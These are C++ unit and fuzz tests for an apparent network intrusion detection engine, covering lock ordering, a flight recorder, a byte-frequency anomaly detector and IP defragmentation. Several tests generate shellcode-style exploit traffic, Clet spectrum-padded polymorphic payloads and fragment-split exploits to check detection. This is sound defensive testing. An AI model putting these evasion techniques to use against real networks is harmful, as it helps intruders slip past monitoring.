  for (std::size_t i = 0; i < out.size(); ++i) {
    EXPECT_EQ(out[i].unit_id, 13 + i) << "oldest-first within the ring";
  }
}

TEST_F(FlightRecorderTest, SlowUnitSurvivesTenThousandBenignUnits) {
  FlightRecorder& fr = FlightRecorder::instance();
  EXPECT_DOUBLE_EQ(fr.slow_threshold_seconds(), 1.0);  // pinned to the floor

  UnitRecord pathological = benign_unit(777, /*total_us=*/40'000'000);  // 40 s
  fr.record(pathological);
  // Roll the main ring over ~1250 times with sub-threshold units.
  for (std::uint64_t id = 0; id < 10'000; ++id) fr.record(benign_unit(10'000 + id));

  const std::vector<UnitRecord> recent = fr.recent();
  EXPECT_TRUE(std::none_of(recent.begin(), recent.end(),
                           [](const UnitRecord& r) { return r.unit_id == 777; }))
      << "the main ring rolled over long ago";
  std::vector<UnitRecord> slow = fr.slow();
  ASSERT_EQ(slow.size(), 1u) << "benign units must not be promoted";
  EXPECT_EQ(slow[0].unit_id, 777u);
  EXPECT_EQ(slow[0].total_us, 40'000'000u);

  // slow(clear) is scrape-and-ack.
  slow = fr.slow(/*clear=*/true);
  ASSERT_EQ(slow.size(), 1u);
  EXPECT_TRUE(fr.slow().empty());
}

TEST_F(FlightRecorderTest, SlowBufferKeepsNewestWhenOverflowed) {
  FlightRecorder& fr = FlightRecorder::instance();
  for (std::uint64_t id = 0; id < 40; ++id) {
    fr.record(benign_unit(id, /*total_us=*/2'000'000));  // all above the 1 s floor
  }
  const std::vector<UnitRecord> slow = fr.slow();
  ASSERT_EQ(slow.size(), 16u);  // slow_slots
  for (const UnitRecord& r : slow) EXPECT_GE(r.unit_id, 24u);
}

TEST_F(FlightRecorderTest, RollingThresholdSeededFromUnitHistogram) {
  FlightRecorder& fr = FlightRecorder::instance();
  fr.configure({.slots = 8,
                .slow_slots = 16,
                .slow_floor_seconds = 250e-6,
                .slow_multiplier = 8.0});
  Histogram* unit_seconds = pipeline_metrics().unit_seconds;
  unit_seconds->reset();
  // 100 observations around 1 ms: p95 lands in the (1.024, 2.048] ms
  // bucket, so the refreshed threshold must be 8 x p95 >> the floor.
  for (int i = 0; i < 100; ++i) unit_seconds->observe(1.5e-3);
  fr.refresh_slow_threshold();
  const double p95 = unit_seconds->snapshot().quantile(0.95);
  EXPECT_NEAR(fr.slow_threshold_seconds(), 8.0 * p95, 1e-9);
  EXPECT_GT(fr.slow_threshold_seconds(), 250e-6);

  // An empty histogram keeps the floor.
  unit_seconds->reset();
  fr.refresh_slow_threshold();
  EXPECT_DOUBLE_EQ(fr.slow_threshold_seconds(), 250e-6);
}

TEST_F(FlightRecorderTest, JsonDumpContainsRecords) {
  FlightRecorder& fr = FlightRecorder::instance();
  fr.record(benign_unit(5));
  fr.record(benign_unit(6, /*total_us=*/2'000'000));  // promoted
  const std::string json = fr.json();
  EXPECT_NE(json.find("\"enabled\": true"), std::string::npos);
  EXPECT_NE(json.find("\"recent\""), std::string::npos);
  EXPECT_NE(json.find("\"slow\""), std::string::npos);
  EXPECT_NE(json.find("\"unit_id\": 5"), std::string::npos);
  EXPECT_NE(json.find("\"unit_id\": 6"), std::string::npos);
}

TEST_F(FlightRecorderTest, ResetDropsRecordsKeepsConfiguration) {
  FlightRecorder& fr = FlightRecorder::instance();
  fr.record(benign_unit(1));
  fr.record(benign_unit(2, /*total_us=*/2'000'000));
  fr.reset();
  EXPECT_TRUE(fr.recent().empty());
  EXPECT_TRUE(fr.slow().empty());
  EXPECT_TRUE(FlightRecorder::enabled());
  fr.record(benign_unit(3));
  EXPECT_EQ(fr.recent().size(), 1u);
}

// TSan tier-1: writers on several threads, a scraping reader racing
// them. The seqlock + checksum discipline must never surface a torn
// record — every record read back must be one that some writer wrote.
TEST_F(FlightRecorderTest, ConcurrentWritersAndScraperStayConsistent) {
  FlightRecorder& fr = FlightRecorder::instance();
  fr.configure({.slots = 32, .slow_slots = 64, .slow_floor_seconds = 1.0,
                .slow_multiplier = 1e9});
  constexpr int kWriters = 4;
  constexpr std::uint64_t kPerWriter = 5000;
  std::atomic<bool> stop{false};

  std::thread scraper([&] {
    while (!stop.load(std::memory_order_relaxed)) {
      for (const UnitRecord& r : fr.recent()) {
        // Writers encode unit_id = writer*kPerWriter + i and mirror it in
        // payload_bytes; a torn slot that slipped past the checksum would
        // break the invariant.
        ASSERT_EQ(r.payload_bytes, static_cast<std::uint32_t>(r.unit_id & 0xffffffff));
      }
      (void)fr.json();
    }
  });

  std::vector<std::thread> writers;
  writers.reserve(kWriters);
  for (int w = 0; w < kWriters; ++w) {
    writers.emplace_back([&fr, w] {
      for (std::uint64_t i = 0; i < kPerWriter; ++i) {
        const std::uint64_t id = static_cast<std::uint64_t>(w) * kPerWriter + i;
        UnitRecord r;
        r.unit_id = id;
        r.payload_bytes = static_cast<std::uint32_t>(id & 0xffffffff);
        r.total_us = 10;
        fr.record(r);
      }
    });
  }
  for (auto& t : writers) t.join();
  stop.store(true, std::memory_order_relaxed);
  scraper.join();

  // Quiesced: every ring now holds its last 32 records, readable in full.
  const std::vector<UnitRecord> out = fr.recent();
  EXPECT_GE(out.size(), static_cast<std::size_t>(kWriters) * 32u / 2)
      << "each writer thread's ring retains its tail";
  std::set<std::uint64_t> ids;
  for (const UnitRecord& r : out) {
    EXPECT_TRUE(ids.insert(r.unit_id).second) << "no duplicate slots";
    EXPECT_EQ(r.payload_bytes, static_cast<std::uint32_t>(r.unit_id & 0xffffffff));
  }
}

}  // namespace
}  // namespace senids::obs
