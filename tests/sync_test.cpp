// Tests for util/sync.hpp: MutexLock RAII/adopt/early-unlock semantics,
// CondVar handoff, and the runtime lock-order checker — same-class
// nesting and cross-class inversions must abort with a diagnostic
// naming both chains, and consistent orders must not.
//
// Every test uses its own lock-class names: the class table is interned
// for the process lifetime, death-test children fork with the parent's
// graph, and in TSan builds the checker is on for the whole binary —
// shared names would let one test's edges leak into another's. The
// order-establishing mutexes are function-local statics, not stack
// locals: TSan's own deadlock detector keys mutexes by address,
// std::mutex destruction is trivial on libstdc++ (TSan never forgets
// the object), and reused stack slots across TEST bodies would alias
// one test's A->B with another's B->A into a phantom cycle.
#include "util/sync.hpp"

#include <gtest/gtest.h>

#include <atomic>
#include <cstddef>
#include <string>
#include <thread>

namespace util = senids::util;
namespace lockorder = senids::util::lockorder;

namespace {

class LockOrderTest : public ::testing::Test {
 protected:
  void SetUp() override {
    lockorder::reset_graph();
    lockorder::set_enabled(true);
  }
  void TearDown() override {
    lockorder::set_enabled(false);
    lockorder::reset_graph();
  }
};

using LockOrderDeathTest = LockOrderTest;

TEST_F(LockOrderDeathTest, InversionAborts) {
  static util::Mutex a{"Sync.invert.A"};
  static util::Mutex b{"Sync.invert.B"};
  {
    util::MutexLock hold_a(a);
    util::MutexLock hold_b(b);
  }
  // The checker reports before blocking, so the abort fires even though
  // no second thread is contending.
  EXPECT_DEATH(
      {
        util::MutexLock hold_b(b);
        util::MutexLock hold_a(a);
      },
      "lock-order inversion detected");
}

TEST_F(LockOrderDeathTest, InversionEstablishedOnAnotherThreadAborts) {
  static util::Mutex a{"Sync.crossthread.A"};
  static util::Mutex b{"Sync.crossthread.B"};
  std::thread establish([&] {
    util::MutexLock hold_a(a);
    util::MutexLock hold_b(b);
  });
  establish.join();
  // The order graph is global: this thread never took A before B, yet
  // taking B before A here is still an inversion.
  EXPECT_DEATH(
      {
        util::MutexLock hold_b(b);
        util::MutexLock hold_a(a);
      },
      "lock-order inversion detected");
}

TEST_F(LockOrderDeathTest, ThreeLockCycleAborts) {
  static util::Mutex a{"Sync.cycle3.A"};
  static util::Mutex b{"Sync.cycle3.B"};
  static util::Mutex c{"Sync.cycle3.C"};
  {
    util::MutexLock hold_a(a);
    util::MutexLock hold_b(b);
  }
  {
    util::MutexLock hold_b(b);
    util::MutexLock hold_c(c);
  }
  // A->B and B->C are established; C->A closes the triangle.
  EXPECT_DEATH(
      {
        util::MutexLock hold_c(c);
        util::MutexLock hold_a(a);
      },
      "lock-order inversion detected");
}

TEST_F(LockOrderDeathTest, SameClassNestingAborts) {
  static util::Mutex first{"Sync.peer"};
  static util::Mutex second{"Sync.peer"};
  EXPECT_DEATH(
      {
        util::MutexLock hold_first(first);
        util::MutexLock hold_second(second);
      },
      "same class is already held");
}

TEST_F(LockOrderTest, ConsistentOrderRecordsOneEdgeAndDoesNotAbort) {
  static util::Mutex a{"Sync.consistent.A"};
  static util::Mutex b{"Sync.consistent.B"};
  const std::size_t before = lockorder::edge_count();
  for (int i = 0; i < 3; ++i) {
    util::MutexLock hold_a(a);
    util::MutexLock hold_b(b);
  }
  // Re-acquisitions in the established order deduplicate to one edge.
  EXPECT_EQ(lockorder::edge_count(), before + 1);
}

TEST_F(LockOrderTest, FirstLevelAcquisitionsRecordNoEdges) {
  static util::Mutex a{"Sync.flat.A"};
  static util::Mutex b{"Sync.flat.B"};
  const std::size_t before = lockorder::edge_count();
  {
    util::MutexLock hold_a(a);
  }
  {
    util::MutexLock hold_b(b);
  }
  // Non-nested acquisitions establish no order.
  EXPECT_EQ(lockorder::edge_count(), before);
}

TEST_F(LockOrderTest, TryAcquireOrdersLaterAcquisitions) {
  static util::Mutex a{"Sync.tryorder.A"};
  static util::Mutex b{"Sync.tryorder.B"};
  const std::size_t before = lockorder::edge_count();
  const bool acquired = a.try_lock();
  ASSERT_TRUE(acquired);
  {
    util::MutexLock hold_b(b);
  }
  a.unlock();
  // try_lock itself records no inbound edge (it cannot block), but the
  // nested blocking acquisition of B while A is held records A->B.
  EXPECT_EQ(lockorder::edge_count(), before + 1);
}

TEST_F(LockOrderTest, ResetGraphForgetsEstablishedOrder) {
  static util::Mutex a{"Sync.reset.A"};
  static util::Mutex b{"Sync.reset.B"};
  {
    util::MutexLock hold_a(a);
    util::MutexLock hold_b(b);
  }
  ASSERT_GE(lockorder::edge_count(), 1u);
  lockorder::reset_graph();
  EXPECT_EQ(lockorder::edge_count(), 0u);
  // With the A->B edge gone, B-before-A is a fresh order, not an
  // inversion. Fresh *instances* of the same classes: the checker works
  // on lock classes, while TSan's own instance-level deadlock detector
  // would (correctly, for its model) flag re-nesting the originals.
  static util::Mutex a2{"Sync.reset.A"};
  static util::Mutex b2{"Sync.reset.B"};
  {
    util::MutexLock hold_b(b2);
    util::MutexLock hold_a(a2);
  }
}

TEST(SyncLockOrderApiTest, DisabledCheckerRecordsNothing) {
  lockorder::set_enabled(false);
  lockorder::reset_graph();
  util::Mutex a{"Sync.disabled.A"};
  util::Mutex b{"Sync.disabled.B"};
  {
    util::MutexLock hold_a(a);
    util::MutexLock hold_b(b);
  }
  EXPECT_EQ(lockorder::edge_count(), 0u);
}

TEST(SyncMutexLockTest, AdoptTakesOverRelease) {
  util::Mutex mu{"Sync.adopt"};
  mu.lock();
  {
    util::MutexLock lock(mu, util::kAdoptLock);
  }  // destructor releases the adopted lock
  const bool reacquired = mu.try_lock();
  EXPECT_TRUE(reacquired);
  if (reacquired) mu.unlock();
}

TEST(SyncMutexLockTest, EarlyUnlockIsNotReleasedTwice) {
  util::Mutex mu{"Sync.early"};
  {
    util::MutexLock lock(mu);
    lock.unlock();
    // Released early: the mutex is free while the guard is still alive.
    const bool free_now = mu.try_lock();
    EXPECT_TRUE(free_now);
    if (free_now) mu.unlock();
  }  // destructor must not unlock again
  const bool still_free = mu.try_lock();
  EXPECT_TRUE(still_free);
  if (still_free) mu.unlock();
}

TEST(SyncMutexTest, TryLockFailsWhenHeldElsewhere) {
  util::Mutex mu{"Sync.trylock"};
  util::MutexLock lock(mu);
  std::thread contender([&] {
    const bool acquired = mu.try_lock();
    EXPECT_FALSE(acquired);
    if (acquired) mu.unlock();
  });
  contender.join();
}

TEST(SyncCondVarTest, WaitReleasesAndReacquiresAroundNotify) {
  util::Mutex mu{"Sync.condvar"};
  util::CondVar cv;
  bool ready = false;
  std::atomic<bool> consumer_done{false};
  std::thread producer([&] {
    {
      util::MutexLock lock(mu);
      ready = true;
    }
    cv.notify_one();
  });
  {
    util::MutexLock lock(mu);
    while (!ready) cv.wait(mu);
    EXPECT_TRUE(ready);
    consumer_done.store(true);
  }
  producer.join();
  EXPECT_TRUE(consumer_done.load());
}

}  // namespace
