#include <gtest/gtest.h>

#include "anomaly/payl.hpp"
#include "gen/benign.hpp"
#include "gen/poly.hpp"
#include "util/prng.hpp"

namespace senids::anomaly {
namespace {

using util::Bytes;

/// Train a detector on a homogeneous benign corpus of fixed-size text
/// payloads on one port.
PaylDetector trained_detector(std::size_t n = 200, std::size_t len = 512) {
  PaylDetector d;
  util::Prng prng(77);
  for (std::size_t i = 0; i < n; ++i) {
    Bytes payload;
    payload.reserve(len);
    static constexpr char kText[] =
        "the quick brown fox jumps over the lazy dog 0123456789 <html> ";
    while (payload.size() < len) {
      payload.push_back(
          static_cast<std::uint8_t>(kText[prng.below(sizeof kText - 1)]));
    }
    d.train(payload, 80);
  }
  return d;
}

TEST(Payl, TrainedModelScoresSimilarTrafficLow) {
  PaylDetector d = trained_detector();
  util::Prng prng(88);
  Bytes similar;
  static constexpr char kText[] =
      "the quick brown fox jumps over the lazy dog 0123456789 <html> ";
  while (similar.size() < 512) {
    similar.push_back(static_cast<std::uint8_t>(kText[prng.below(sizeof kText - 1)]));
  }
  const double score = d.score(similar, 80);
  EXPECT_LT(score, d.options().threshold);
}

TEST(Payl, BinaryShellcodeScoresHigh) {
  PaylDetector d = trained_detector();
  util::Prng prng(99);
  Bytes binary = prng.bytes(512);  // high-entropy payload, same length bucket
  EXPECT_GT(d.score(binary, 80), d.options().threshold);
  EXPECT_TRUE(d.is_anomalous(binary, 80));
}

TEST(Payl, UntrainedCellScoresZero) {
  PaylDetector d = trained_detector();
  util::Prng prng(11);
  Bytes payload = prng.bytes(512);
  EXPECT_EQ(d.score(payload, 9999), 0.0);  // port never trained
}

TEST(Payl, LengthBucketsAreSeparate) {
  PaylDetector d = trained_detector(/*n=*/100, /*len=*/512);
  util::Prng prng(22);
  // Very different length: falls into an untrained bucket.
  Bytes tiny = prng.bytes(4);
  EXPECT_EQ(d.score(tiny, 80), 0.0);
}

TEST(Payl, EmptyPayloadIgnored) {
  PaylDetector d;
  Bytes empty;
  d.train(empty, 80);
  EXPECT_EQ(d.model_count(), 0u);
  EXPECT_EQ(d.score(empty, 80), 0.0);
}

TEST(Payl, ModelCountGrowsPerCell) {
  PaylDetector d;
  util::Prng prng(33);
  d.train(prng.bytes(100), 80);
  d.train(prng.bytes(100), 80);   // same cell
  d.train(prng.bytes(100), 25);   // new port
  d.train(prng.bytes(3000), 80);  // new length bucket
  EXPECT_EQ(d.model_count(), 3u);
}

TEST(Payl, CletSpectrumPaddingLowersScore) {
  // The Clet claim: spectrum padding drags the byte distribution toward
  // text, reducing the anomaly score versus an unpadded exploit of the
  // same total length.
  PaylDetector d = trained_detector(/*n=*/300, /*len=*/1024);
  util::Prng prng(44);
  auto payload = util::to_bytes("SHELLCODESHELLCODESHELLCODE");

  util::Prng p1(1);
  auto plain = gen::clet_encode(payload, p1, /*spectrum_pad=*/0);
  util::Prng p2(1);
  auto padded = gen::clet_encode(payload, p2, /*spectrum_pad=*/700);

  // Same length bucket for both: the naive attacker pads with random
  // bytes, Clet pads with English-spectrum bytes.
  auto normalize = [&prng](Bytes b) {
    while (b.size() < 1024) b.push_back(prng.byte());
    b.resize(1024);
    return b;
  };
  const double plain_score = d.score(normalize(plain.bytes), 80);
  const double padded_score = d.score(normalize(padded.bytes), 80);
  EXPECT_LT(padded_score, plain_score);
}

TEST(ByteModel, WelfordStatistics) {
  ByteModel m;
  std::array<double, 256> f1{};
  std::array<double, 256> f2{};
  f1[65] = 1.0;
  f2[65] = 0.0;
  f2[66] = 1.0;
  m.add(f1);
  m.add(f2);
  EXPECT_EQ(m.samples, 2u);
  EXPECT_DOUBLE_EQ(m.mean[65], 0.5);
  EXPECT_DOUBLE_EQ(m.mean[66], 0.5);
  // Distance of a third, different distribution is positive.
  std::array<double, 256> f3{};
  f3[67] = 1.0;
  EXPECT_GT(m.distance(f3), 0.0);
}

TEST(ByteModel, EmptyModelDistanceZero) {
  ByteModel m;
  std::array<double, 256> f{};
  EXPECT_EQ(m.distance(f), 0.0);
}

}  // namespace
}  // namespace senids::anomaly
