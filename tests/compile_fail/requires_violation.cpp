// Seeded violation: calling a REQUIRES(mu) function without holding the
// lock. Must FAIL to compile under -Werror=thread-safety.
#include "util/sync.hpp"

namespace {

senids::util::Mutex g_mu{"CompileFail.requires"};
int g_value GUARDED_BY(g_mu) = 0;

void bump_locked() REQUIRES(g_mu) { ++g_value; }

}  // namespace

int main() {
  // Under Clang this is
  // error: calling function 'bump_locked' requires holding mutex 'g_mu'.
  bump_locked();
  return 0;
}
