// Positive control: correctly locked access to a guarded field. Must
// compile cleanly under -Werror=thread-safety, or the seeded violations
// next door prove nothing.
#include "util/sync.hpp"

namespace {

class Counter {
 public:
  void bump() {
    senids::util::MutexLock lock(mu_);
    ++value_;
  }

  int value() {
    senids::util::MutexLock lock(mu_);
    return value_;
  }

 private:
  senids::util::Mutex mu_{"CompileFail.ok"};
  int value_ GUARDED_BY(mu_) = 0;
};

}  // namespace

int main() {
  Counter counter;
  counter.bump();
  return counter.value() == 1 ? 0 : 1;
}
