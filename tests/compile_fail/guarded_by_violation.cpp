// Seeded violation: writing a GUARDED_BY field without holding its
// mutex. Must FAIL to compile under -Werror=thread-safety.
#include "util/sync.hpp"

namespace {

class Counter {
 public:
  // No lock taken: under Clang this is
  // error: writing variable 'value_' requires holding mutex 'mu_'.
  void bump_unlocked() { ++value_; }

 private:
  senids::util::Mutex mu_{"CompileFail.guarded"};
  int value_ GUARDED_BY(mu_) = 0;
};

}  // namespace

int main() {
  Counter counter;
  counter.bump_unlocked();
  return 0;
}
