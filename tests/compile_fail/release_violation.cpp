// Seeded violation: releasing a scoped guard twice. MutexLock is a
// SCOPED_CAPABILITY with a RELEASE() early-unlock, so Clang tracks the
// first unlock() and rejects the second. Must FAIL to compile under
// -Werror=thread-safety.
#include "util/sync.hpp"

namespace {
senids::util::Mutex g_mu{"CompileFail.release"};
}  // namespace

int main() {
  senids::util::MutexLock lock(g_mu);
  lock.unlock();
  // Under Clang this is
  // error: releasing mutex 'g_mu' that was not held.
  lock.unlock();
  return 0;
}
