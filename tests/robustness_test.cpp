// Hostile-input robustness: the full pipeline must survive corrupted
// captures, truncated and mutated frames, and adversarial payload shapes
// without crashing, hanging, or reading out of bounds. (Run these under
// ASan/UBSan in CI for full value; they also catch logic hangs via the
// engine's internal budgets.)
#include <gtest/gtest.h>

#include "core/senids.hpp"
#include "extract/extractor.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"

namespace senids {
namespace {

using util::Bytes;

class EngineFuzz : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(EngineFuzz, RandomFramesNeverCrash) {
  util::Prng prng(GetParam());
  pcap::Capture capture;
  for (int i = 0; i < 50; ++i) {
    capture.add(static_cast<std::uint32_t>(i), 0, prng.bytes(14 + prng.below(200)));
  }
  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  core::NidsEngine nids(options);
  core::Report report = nids.process_capture(capture);
  EXPECT_EQ(report.stats.packets, 50u);
}

INSTANTIATE_TEST_SUITE_P(Seeds, EngineFuzz, ::testing::Range<std::uint64_t>(0, 12));

class MutationFuzz : public ::testing::TestWithParam<std::uint64_t> {};

TEST_P(MutationFuzz, BitFlippedRealTrafficSurvives) {
  // Start from a well-formed capture with an exploit, then corrupt random
  // bytes in every frame: headers, checksums, payload — anything goes.
  gen::TraceBuilder tb(GetParam());
  const net::Endpoint attacker{net::Ipv4Addr::from_octets(192, 0, 2, 66), 31337};
  const net::Endpoint victim{net::Ipv4Addr::from_octets(10, 0, 0, 7), 80};
  tb.add_tcp_flow(attacker, victim,
                  gen::wrap_in_overflow(gen::make_shell_spawn_corpus()[1].code, tb.prng()));
  pcap::Capture capture = tb.take();

  util::Prng prng(1000 + GetParam());
  for (auto& rec : capture.records) {
    const std::size_t flips = 1 + prng.below(8);
    for (std::size_t i = 0; i < flips && !rec.data.empty(); ++i) {
      rec.data[prng.below(rec.data.size())] ^= static_cast<std::uint8_t>(1 + prng.below(255));
    }
    if (prng.chance(0.2) && rec.data.size() > 4) {
      rec.data.resize(rec.data.size() / 2);  // truncate some frames
    }
  }
  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  options.enable_emulation = true;  // exercise the deepest path too
  core::NidsEngine nids(options);
  core::Report report = nids.process_capture(capture);
  EXPECT_GT(report.stats.packets, 0u);
}

INSTANTIATE_TEST_SUITE_P(Seeds, MutationFuzz, ::testing::Range<std::uint64_t>(0, 12));

TEST(PcapFuzz, CorruptedFilesNeverCrash) {
  util::Prng prng(7777);
  gen::TraceBuilder tb(1);
  tb.add_tcp_flow({net::Ipv4Addr::from_octets(1, 1, 1, 1), 1},
                  {net::Ipv4Addr::from_octets(2, 2, 2, 2), 2}, util::as_bytes("payload"));
  Bytes good = pcap::serialize(tb.capture());
  for (int trial = 0; trial < 200; ++trial) {
    Bytes bad = good;
    const std::size_t flips = 1 + prng.below(16);
    for (std::size_t i = 0; i < flips; ++i) {
      bad[prng.below(bad.size())] ^= static_cast<std::uint8_t>(prng.next());
    }
    if (prng.chance(0.3)) bad.resize(prng.below(bad.size() + 1));
    auto parsed = pcap::parse_any(bad);  // any outcome but a crash is fine
    if (parsed) {
      EXPECT_LE(parsed->records.size(), 1000u);
    }
  }
}

TEST(ExtractorFuzz, ArbitraryPayloadsNeverCrash) {
  util::Prng prng(8888);
  extract::BinaryExtractor extractor;
  for (int trial = 0; trial < 100; ++trial) {
    auto payload = prng.bytes(prng.below(4096));
    auto frames = extractor.extract(payload);
    for (const auto& f : frames) {
      EXPECT_LE(f.src_offset, payload.size());
    }
  }
}

TEST(EngineRobustness, PathologicalRepetitionPayload) {
  // A payload that is one enormous repetition run plus a tail: exercises
  // the extractor's run handling and the analyzer entry budget.
  Bytes payload(200000, 'A');
  payload.push_back(0xCD);
  payload.push_back(0x80);
  core::NidsOptions options;
  options.classifier.analyze_everything = true;
  core::NidsEngine nids(options);
  core::Alert meta;
  auto alerts = nids.analyze_payload(payload, meta);
  EXPECT_TRUE(alerts.empty());
}

TEST(EngineRobustness, DeeplyInterleavedFragmentsOfManyFlows) {
  // 32 fragmented flows interleaved round-robin: stresses the
  // defragmenter table and flow map simultaneously.
  gen::TraceBuilder tb(3);
  for (int i = 0; i < 32; ++i) {
    const net::Endpoint src{
        net::Ipv4Addr::from_octets(192, 0, 2, static_cast<std::uint8_t>(1 + i)),
        static_cast<std::uint16_t>(10000 + i)};
    tb.add_tcp_flow(src, {net::Ipv4Addr::from_octets(10, 0, 0, 7), 80},
                    Bytes(600, static_cast<std::uint8_t>('a' + i % 26)));
  }
  // Fragment every frame, then interleave all fragments round-robin.
  std::vector<std::vector<Bytes>> trains;
  for (const auto& rec : tb.capture().records) {
    trains.push_back(net::fragment_frame(rec.data, 64));
  }
  pcap::Capture shuffled;
  bool progress = true;
  for (std::size_t round = 0; progress; ++round) {
    progress = false;
    for (auto& train : trains) {
      if (round < train.size()) {
        shuffled.add(0, 0, train[round]);
        progress = true;
      }
    }
  }
  core::NidsOptions options;
  core::NidsEngine nids(options);
  nids.classifier().honeypots().add_decoy(net::Ipv4Addr::from_octets(10, 0, 0, 7));
  core::Report report = nids.process_capture(shuffled);
  EXPECT_EQ(report.stats.packets, shuffled.records.size());
  EXPECT_TRUE(report.alerts.empty());  // the payloads are benign letters
}

}  // namespace
}  // namespace senids
