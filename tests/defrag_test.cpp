// IPv4 fragment reassembly: unit tests for the defragmenter plus the
// end-to-end evasion scenario (exploit split across IP fragments).
#include <gtest/gtest.h>

#include "core/senids.hpp"
#include "gen/shellcode.hpp"
#include "gen/traffic.hpp"
#include "net/defrag.hpp"
#include "net/forge.hpp"

namespace senids::net {
namespace {

using util::Bytes;

Ipv4Header frag_header(std::uint16_t id, std::uint16_t offset_units, bool mf) {
  Ipv4Header h;
  h.identification = id;
  h.fragment_offset = offset_units;
  h.more_fragments = mf;
  h.src = Ipv4Addr::from_octets(1, 1, 1, 1);
  h.dst = Ipv4Addr::from_octets(2, 2, 2, 2);
  return h;
}

TEST(Defrag, TwoFragmentsInOrder) {
  Defragmenter d;
  Bytes part1(16, 0xAA);
  Bytes part2(8, 0xBB);
  EXPECT_FALSE(d.feed(frag_header(7, 0, true), part1).has_value());
  auto done = d.feed(frag_header(7, 2, false), part2);
  ASSERT_TRUE(done.has_value());
  EXPECT_EQ(done->payload.size(), 24u);
  EXPECT_EQ(done->payload[0], 0xAA);
  EXPECT_EQ(done->payload[16], 0xBB);
  EXPECT_FALSE(done->header.is_fragment());
  EXPECT_EQ(d.pending(), 0u);
}

TEST(Defrag, OutOfOrderFragments) {
  Defragmenter d;
  EXPECT_FALSE(d.feed(frag_header(9, 2, false), Bytes(8, 0xBB)).has_value());
  auto done = d.feed(frag_header(9, 0, true), Bytes(16, 0xAA));
  ASSERT_TRUE(done.has_value());
  EXPECT_EQ(done->payload.size(), 24u);
}

TEST(Defrag, ThreeFragmentsShuffled) {
  Defragmenter d;
  EXPECT_FALSE(d.feed(frag_header(3, 1, true), Bytes(8, 0xBB)).has_value());
  EXPECT_FALSE(d.feed(frag_header(3, 2, false), Bytes(4, 0xCC)).has_value());
  auto done = d.feed(frag_header(3, 0, true), Bytes(8, 0xAA));
  ASSERT_TRUE(done.has_value());
  ASSERT_EQ(done->payload.size(), 20u);
  EXPECT_EQ(done->payload[7], 0xAA);
  EXPECT_EQ(done->payload[8], 0xBB);
  EXPECT_EQ(done->payload[16], 0xCC);
}

TEST(Defrag, DistinctDatagramsKeptSeparate) {
  Defragmenter d;
  EXPECT_FALSE(d.feed(frag_header(1, 0, true), Bytes(8, 0x11)).has_value());
  EXPECT_FALSE(d.feed(frag_header(2, 0, true), Bytes(8, 0x22)).has_value());
  EXPECT_EQ(d.pending(), 2u);
  auto done1 = d.feed(frag_header(1, 1, false), Bytes(4, 0x33));
  ASSERT_TRUE(done1.has_value());
  EXPECT_EQ(done1->payload[0], 0x11);
  EXPECT_EQ(d.pending(), 1u);
}

TEST(Defrag, DuplicateFragmentTolerated) {
  Defragmenter d;
  EXPECT_FALSE(d.feed(frag_header(4, 0, true), Bytes(8, 0xAA)).has_value());
  EXPECT_FALSE(d.feed(frag_header(4, 0, true), Bytes(8, 0xAA)).has_value());
  auto done = d.feed(frag_header(4, 1, false), Bytes(8, 0xBB));
  ASSERT_TRUE(done.has_value());
  EXPECT_EQ(done->payload.size(), 16u);
}

TEST(Defrag, MissingMiddleNeverCompletes) {
  Defragmenter d;
  EXPECT_FALSE(d.feed(frag_header(5, 0, true), Bytes(8, 0xAA)).has_value());
  EXPECT_FALSE(d.feed(frag_header(5, 2, false), Bytes(8, 0xCC)).has_value());
  EXPECT_EQ(d.pending(), 1u);
}

TEST(Defrag, BufferCapEvictsOldest) {
  Defragmenter d(/*max_buffered=*/64);
  EXPECT_FALSE(d.feed(frag_header(1, 0, true), Bytes(48, 0x11)).has_value());
  EXPECT_FALSE(d.feed(frag_header(2, 0, true), Bytes(48, 0x22)).has_value());
  // Datagram 1 must have been evicted to stay under the cap.
  EXPECT_LE(d.buffered_bytes(), 64u);
  EXPECT_EQ(d.pending(), 1u);
}

TEST(Defrag, DroppedCounterCountsEvictedDatagrams) {
  Defragmenter d(/*max_buffered=*/64);
  EXPECT_EQ(d.dropped(), 0u);
  EXPECT_FALSE(d.feed(frag_header(1, 0, true), Bytes(48, 0x11)).has_value());
  EXPECT_FALSE(d.feed(frag_header(2, 0, true), Bytes(48, 0x22)).has_value());
  EXPECT_EQ(d.dropped(), 1u);
  // Completing a datagram is not a drop.
  auto done = d.feed(frag_header(2, 6, false), Bytes(8, 0x33));
  ASSERT_TRUE(done.has_value());
  EXPECT_EQ(d.dropped(), 1u);
}

TEST(Defrag, EngineSurfacesDropsInStats) {
  // Incomplete fragment trains (final fragment withheld) from many
  // sources against a tiny buffer cap: the defragmenter must shed
  // pending datagrams and the report must say how many, at any shard
  // count.
  pcap::Capture capture;
  for (std::uint8_t s = 1; s <= 8; ++s) {
    Endpoint src{Ipv4Addr::from_octets(192, 0, 2, s), 1234};
    Endpoint dst{Ipv4Addr::from_octets(10, 0, 0, 20), 80};
    Bytes frame = forge_udp(src, dst, Bytes(400, 'x'));
    auto frags = fragment_frame(frame, 128);
    ASSERT_GE(frags.size(), 3u);
    frags.pop_back();  // never completes
    for (const auto& f : frags) capture.add(0, 0, f);
  }

  for (std::size_t shards : {std::size_t{1}, std::size_t{4}}) {
    core::NidsOptions options;
    options.shards = shards;
    options.defrag_max_buffered_bytes = 512;
    core::NidsEngine nids(options);
    core::Report report = nids.process_capture(capture);
    EXPECT_GT(report.stats.defrag_dropped, 0u) << "shards=" << shards;
  }
}

// --------------------------------------------------- fragment_frame forge

TEST(FragmentFrame, RoundTripsThroughDefragmenter) {
  Endpoint src{Ipv4Addr::from_octets(10, 1, 1, 1), 1234};
  Endpoint dst{Ipv4Addr::from_octets(10, 2, 2, 2), 80};
  Bytes payload(500, 'P');
  Bytes frame = forge_tcp(src, dst, 1, payload);
  auto frags = fragment_frame(frame, 128);
  ASSERT_GE(frags.size(), 4u);

  Defragmenter d;
  std::optional<ReassembledDatagram> done;
  for (const auto& f : frags) {
    auto pkt = parse_frame(f);
    ASSERT_TRUE(pkt.has_value());
    EXPECT_EQ(pkt->transport, Transport::kFragment);
    done = d.feed(pkt->ip, pkt->payload);
  }
  ASSERT_TRUE(done.has_value());
  auto whole = parse_reassembled(done->header, done->payload);
  ASSERT_TRUE(whole.has_value());
  EXPECT_EQ(whole->transport, Transport::kTcp);
  EXPECT_EQ(whole->tcp.dst_port, 80);
